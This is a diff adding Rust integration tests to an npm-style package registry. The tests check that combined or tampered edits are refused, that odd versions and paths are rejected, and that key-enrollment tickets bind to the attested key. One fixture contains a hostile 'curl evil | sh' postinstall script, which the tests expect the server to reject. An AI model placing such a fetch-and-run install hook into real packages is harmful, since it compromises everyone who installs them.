@@ -17,6 +17,8 @@ backend_tests!(
     a_plain_token_changes_no_release_without_a_tap,
     names_belong_to_their_maintainers_scopes_and_reservations,
     a_tap_approves_one_change_only,
+    documents_that_ask_for_more_than_one_change_are_refused,
+    a_key_add_ticket_enrolls_only_the_attested_key,
 );
 
 async fn package_state(app: &TestApp, name: &str) -> Value {
@@ -192,6 +194,7 @@ async fn a_plain_token_changes_no_release_without_a_tap(backend: Backend) {
     tap_required(send(&app, Method::PUT, "/lib", &leaked, Some(&doc), None).await).await;
     let mut doc: Value = app.get_json("/lib?write=true").await;
     doc["versions"].as_object_mut().unwrap().remove("1.0.1");
+    doc["dist-tags"]["latest"] = json!("1.0.0");
     let rev = doc["_rev"].as_str().unwrap().to_string();
     tap_required(send(&app, Method::PUT, &format!("/lib/-rev/{rev}"), &leaked, Some(&doc), None).await).await;
     tap_required(send(&app, Method::DELETE, &format!("/lib/-rev/{rev}"), &leaked, None, None).await).await;
@@ -449,4 +452,110 @@ async fn a_tap_approves_one_change_only(backend: Backend) {
     expect_error(resp, StatusCode::FORBIDDEN, "invalid_ticket").await;
     let keys: Value = app.get_json_as("/api/v1/keys", &alice.token).await;
     assert_eq!(keys["keys"].as_array().unwrap().len(), 2, "no key removed");
+}
+
+async fn documents_that_ask_for_more_than_one_change_are_refused(backend: Backend) {
+    let Some(app) = TestApp::new(backend).await else {
+        return;
+    };
+    let alice = maintainer(&app, "alice").await;
+    released(&app, &alice, "lib").await;
+    let before = package_state(&app, "lib").await;
+    // A deprecation document that also edits a published manifest, the tags, or the maintainers.
+    let base: Value = app.get_json("/lib?write=true").await;
+    let mut edits = Vec::new();
+    let mut doc = base.clone();
+    doc["versions"]["1.0.0"]["deprecated"] = json!("old");
+    doc["versions"]["1.0.0"]["scripts"] = json!({"postinstall": "curl evil | sh"});
+    edits.push(("/lib".to_string(), doc, "immutable"));
+    let mut doc = base.clone();
+    doc["versions"]["1.0.0"]["deprecated"] = json!("old");
+    doc["dist-tags"]["latest"] = json!("1.0.0");
+    edits.push(("/lib".to_string(), doc, "npm dist-tag"));
+    let mut doc = base.clone();
+    doc["versions"]["1.0.0"]["deprecated"] = json!("old");
+    doc["maintainers"] = json!([{"name": "alice"}, {"name": "mallory"}]);
+    edits.push(("/lib".to_string(), doc, "npm owner"));
+    // An unpublish document that also adds a maintainer, or points `latest` elsewhere.
+    let rev = base["_rev"].as_str().unwrap().to_string();
+    let mut doc = base.clone();
+    doc["versions"].as_object_mut().unwrap().remove("1.0.1");
+    doc["dist-tags"] = json!({"latest": "1.0.0"});
+    doc["maintainers"] = json!([{"name": "alice"}, {"name": "mallory"}]);
+    edits.push((format!("/lib/-rev/{rev}"), doc, "npm owner"));
+    let mut doc = base.clone();
+    doc["versions"].as_object_mut().unwrap().remove("1.0.0");
+    doc["dist-tags"] = json!({"latest": "1.0.0"});
+    edits.push((format!("/lib/-rev/{rev}"), doc, "npm dist-tag"));
+    for (path, doc, hint) in edits {
+        let resp = send(&app, Method::PUT, &path, &alice.token, Some(&doc), None).await;
+        let msg = expect_error(resp, StatusCode::BAD_REQUEST, "bad_request").await;
+        assert!(msg.contains(hint), "{path}: {msg}");
+    }
+    // Deprecation messages are one bounded line.
+    for message in ["x".repeat(1025), "two\nlines".to_string(), "nul\u{0}".to_string()] {
+        let body = json!({ "message": message });
+        let resp = send(
+            &app,
+            Method::PUT,
+            "/api/v1/packages/lib/versions/1.0.0/deprecation",
+            &alice.token,
+            Some(&body),
+            None,
+        )
+        .await;
+        expect_error(resp, StatusCode::BAD_REQUEST, "bad_request").await;
+    }
+    // Versions with build metadata would reuse a number as npm reads it.
+    let tgz = tarball("lib", "1.0.1+evil", "evil");
+    let resp = put(&app, &alice.token, "lib", &publish_body("lib", "1.0.1+evil", &tgz), None).await;
+    expect_error(resp, StatusCode::BAD_REQUEST, "bad_request").await;
+    // Control characters in a path never reach the database.
+    for path in ["/li%00b", "/-/package/li%00b/dist-tags", "/api/v1/approvals/apr_%00"] {
+        let resp = app.http.get(app.url(path)).send().await.unwrap();
+        expect_error(resp, StatusCode::BAD_REQUEST, "bad_request").await;
+    }
+    assert_eq!(package_state(&app, "lib").await, before, "nothing changed");
+}
+
+async fn a_key_add_ticket_enrolls_only_the_attested_key(backend: Backend) {
+    let Some(app) = TestApp::new(backend).await else {
+        return;
+    };
+    let alice = maintainer(&app, "alice").await;
+    let new_key = SoftKey::new();
+    let (ceremony, cred) = crate::keys_support::registration_response(&app, &alice.token, &new_key).await;
+    let info = tap_required(
+        crate::keys_support::finish_registration(&app, &alice.token, &ceremony, "b", &cred).await,
+    )
+    .await;
+    let intent = info.intent.clone().unwrap();
+    assert!(
+        matches!(intent.change, tapgate_shared::gate_intent::Change::KeyAdd { ref attestation_sha256, .. } if attestation_sha256.len() == 64)
+    );
+    let ticket = approve(&app, &info, &alice.key).await;
+    // The same name and credential id with another attestation object (another public key).
+    let mut other = serde_json::to_value(&cred).unwrap();
+    let mut attestation = base64::Engine::decode(
+        &base64::engine::general_purpose::URL_SAFE_NO_PAD,
+        other["response"]["attestationObject"].as_str().unwrap(),
+    )
+    .unwrap();
+    let last = attestation.len() - 1;
+    attestation[last] ^= 1;
+    other["response"]["attestationObject"] =
+        json!(base64::Engine::encode(&base64::engine::general_purpose::URL_SAFE_NO_PAD, attestation));
+    let repeat = |body: Value| {
+        app.http
+            .post(app.url(&format!("/api/v1/keys/registrations/{ceremony}")))
+            .bearer_auth(&alice.token)
+            .header("npm-otp", &ticket.ticket)
+            .json(&json!({ "name": "b", "credential": body }))
+            .send()
+    };
+    expect_error(repeat(other).await.unwrap(), StatusCode::FORBIDDEN, "invalid_ticket").await;
+    assert_eq!(crate::keys_support::key_count(&app, "alice").await, 1);
+    let resp = repeat(serde_json::to_value(&cred).unwrap()).await.unwrap();
+    assert_eq!(resp.status(), StatusCode::CREATED);
+    assert_eq!(crate::keys_support::key_count(&app, "alice").await, 2);
 }
